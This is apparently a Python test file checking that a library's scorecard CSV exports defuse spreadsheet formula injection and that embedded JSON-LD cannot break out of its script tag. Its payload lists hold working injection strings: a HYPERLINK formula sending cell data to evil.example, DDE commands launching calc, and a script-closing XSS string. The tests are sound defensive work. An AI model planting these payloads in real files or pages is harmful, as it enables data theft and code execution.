"""Safe exports: scorecard.csv cannot run as spreadsheet formulas, and JSON-LD
embedded in a page cannot close its script element."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil

import nbformat
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from capexlib.core.checks import evaluate_checks
from capexlib.core.ledger import load_ledger
from capexlib.core.paths import DEFAULT_DATA_DIR
from capexlib.report import csvsafe, exports, site, templating
from capexlib.run.params import RunParams
from capexlib.topics.scorecard import scorecard

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _card(ledger):
    params = RunParams.from_values()
    return scorecard(ledger, evaluate_checks(ledger, params.fx(), params.tolerance, params.values))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_in_a_quote_is_written_as_text(tmp_path, text):
    """A claim's quote (text from an article) reaches scorecard.csv; a spreadsheet must show it, not run it."""
    data = tmp_path / "data"
    shutil.copytree(DEFAULT_DATA_DIR, data)
    claims = data / "claims.csv"
    rows = list(csv.reader(io.StringIO(claims.read_text(encoding="utf-8"), newline="")))
    quote = rows[0].index("quote")
    rows[1][quote] = text
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(rows)
    claims.write_text(out.getvalue(), encoding="utf-8")
    # The hostile words are the article's: in its archived copy too, with that copy's new sha256.
    article = rows[1][rows[0].index("article_id")]
    copy = data / "sources" / f"{article}.txt"
    copy.write_bytes(copy.read_bytes() + f"\n{text}\n".encode())
    articles = data / "articles.csv"
    old = load_ledger(DEFAULT_DATA_DIR).articles.loc[article, "sha256"]
    articles.write_text(articles.read_text(encoding="utf-8").replace(old, hashlib.sha256(copy.read_bytes()).hexdigest()))
    ledger = load_ledger(data)
    card = _card(ledger)
    written = list(csv.DictReader(io.StringIO(exports.scorecard_csv(card), newline="")))
    cells = [row["quote"] for row in written if row["claim_id"] == rows[1][0]]
    assert cells and all(cell == "'" + text for cell in cells)
    # numbers stay numbers, negative ones included
    deviations = [row["percent_off"] for row in written if row["percent_off"].startswith("-")]
    assert deviations and all(re.fullmatch(r"-[0-9]+\.[0-9]+", d) for d in deviations)


@pytest.mark.parametrize("text", [*FORMULAS, "\t=1+1", "\r=1+1", "=1+1\n"])
def test_every_text_column_is_guarded(text):
    """The ledger refuses a quote starting with a tab, but every text column of the card is guarded."""
    card = _card(load_ledger())
    first = card.index[0]
    for column in ("quote", "entity", "metric", "outlet"):
        card.loc[first, column] = text
    row = next(csv.DictReader(io.StringIO(exports.scorecard_csv(card), newline="")))
    shown = "'" + text.replace("\r", "\n")  # a lone CR would end the CSV row: it becomes a line feed
    assert [row[c] for c in ("quote", "entity", "metric", "outlet")] == [shown] * 4


@given(st.text(max_size=30))
@example("+0")  # a leading + is always text, even before a number (only a plain negative number stays a number)
def test_no_written_cell_starts_a_formula(text):
    cell = csvsafe.spreadsheet_safe(text)
    assert not str(cell).startswith(("=", "+", "@", "\t", "\r")) or str(cell).startswith("'")
    if str(cell).startswith("-"):
        assert re.fullmatch(r"-[0-9]+(\.[0-9]+)?", str(cell))
    normal = text.replace("\r\n", "\n").replace("\r", "\n")
    formula = text.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text)
    assert cell == ("'" + normal if formula else normal)


def test_the_committed_scorecard_has_no_formula_cells():
    with (DEFAULT_DATA_DIR.parent / "notebooks" / "scorecard.csv").open(encoding="utf-8", newline="") as f:
        for row in csv.reader(f):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell), cell


def test_a_runs_own_csv_files_have_no_formula_cells(tmp_path):
    """headline.csv and verdicts.csv are downloads too: an operand list such as '-ref:msft-share-move-...'
    (a subtracted reference) would run as a formula in a spreadsheet, so it is written as text."""
    from capexlib.run import outputs

    outputs.write_run_outputs(outputs.compute(RunParams.from_values().values), tmp_path)
    for name in ("headline.csv", "verdicts.csv"):
        with (tmp_path / name).open(encoding="utf-8", newline="") as f:
            rows = list(csv.DictReader(f))
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not cell.startswith("-") or re.fullmatch(r"-[0-9]+(\.[0-9]+)?(E[-+]?[0-9]+)?", cell), (name, cell)
    verdicts = {row["check_id"]: row for row in rows}
    assert verdicts["dd-msft-share-drop"]["operands"] == "'-ref:msft-share-move-2025-01-30"


HOSTILE = ["</script><script>alert(1)</script>", "<!-- x", "a & b", "\u2028\u2029", "</SCRIPT >"]


@pytest.mark.parametrize("text", HOSTILE)
def test_embedded_json_ld_cannot_close_its_script(text):
    reviews = [{"@type": "ClaimReview", "claimReviewed": text, "reviewBody": f"said {text}"}]
    element = exports.jsonld_script(reviews)
    assert element.startswith('<script type="application/ld+json">') and element.endswith("</script>")
    body = element[len('<script type="application/ld+json">') : -len("</script>")]
    assert "<" not in body and ">" not in body and "&" not in body and "\u2028" not in body
    assert json.loads(body) == reviews


def test_the_claim_reviews_embed_safely():
    ledger = load_ledger()
    card = _card(ledger)
    reviews = exports.claim_reviews(ledger, card)
    element = exports.jsonld_script(reviews)
    assert element.count("</") == 1  # only the closing tag
    assert json.loads(element.removeprefix('<script type="application/ld+json">').removesuffix("</script>")) == reviews


def _json_ld_bodies(page: str) -> list[str]:
    return re.findall(r"<script[^>]*application/ld\+json[^>]*>(.*?)</script", page, flags=re.DOTALL | re.IGNORECASE)


def test_pages_embed_json_ld_only_through_the_safe_helper(tmp_path):
    """None is embedded today; if a page starts to, its JSON-LD must not hold `</` (keep it true)."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("# " + HOSTILE[0])]
    for page in (site.notebook_html(nb),):
        for body in _json_ld_bodies(page):
            assert "</" not in body and "<!--" not in body
    for template in sorted(templating.TEMPLATES.glob("*.j2")):
        text = template.read_text(encoding="utf-8")
        if "ld+json" in text:
            assert "jsonld_script" in text, template.name
